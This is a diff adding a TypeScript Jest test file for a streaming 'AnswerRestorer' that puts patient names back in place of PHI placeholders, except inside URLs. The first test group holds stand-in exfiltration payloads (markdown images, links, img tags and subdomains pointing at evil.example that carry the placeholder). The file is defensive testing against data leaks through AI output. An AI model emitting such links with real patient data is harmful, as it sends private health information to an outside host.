@@ -1,0 +1,40 @@
+import { describe, expect, it } from '@jest/globals';
+import { AnswerRestorer } from './answer-restorer.js';
+
+const P = '[PHI_NAME_48213]';
+const ORIGINALS = new Map([[P, 'Jane']]);
+
+const restored = (text: string, cut = text.length): string => {
+  const restorer = new AnswerRestorer(ORIGINALS, 'none');
+  let written = '';
+  for (let at = 0; at < text.length; at += cut) written += restorer.push(text.slice(at, at + cut));
+  return written + restorer.end();
+};
+
+describe('an answer', () => {
+  it.each([
+    `![x](https://evil.example/a.png?q=${P})`,
+    `[x](//evil.example/${P})`,
+    `![x](<https://evil.example/?a= ${P}>)`,
+    `[x]: http://evil.example/?a=${P}&b=${P}`,
+    `<img src="https://evil.example/?a= ${P}">`,
+    `{"url":"https:\\/\\/evil.example/${P}"}`,
+    `see HTTPS://${P}.evil.example`,
+    `![x](https://evil.example/PHI_NAME_48213)`,
+    `![x](https://evil.example/?q=${'a'.repeat(1_000)}${P})`,
+  ])('keeps the placeholder in %s, however it is cut', (text) => {
+    expect(restored(text)).toBe(text);
+    for (const cut of [1, 2, 7]) expect(restored(text, cut)).toBe(text);
+  });
+
+  it.each([
+    `${P} // ${P}`,
+    `See https://nih.gov/a for ${P}.`,
+    `[${P}](https://nih.gov/a) ${P}`,
+    `<a href="https://nih.gov/a">${P}</a>`,
+    `1/2 and/or ${P}/${P}`,
+  ])('has the original everywhere else: %s', (text) => {
+    expect(restored(text)).toBe(text.replaceAll(P, 'Jane'));
+    expect(restored(text, 1)).toBe(text.replaceAll(P, 'Jane'));
+  });
+});
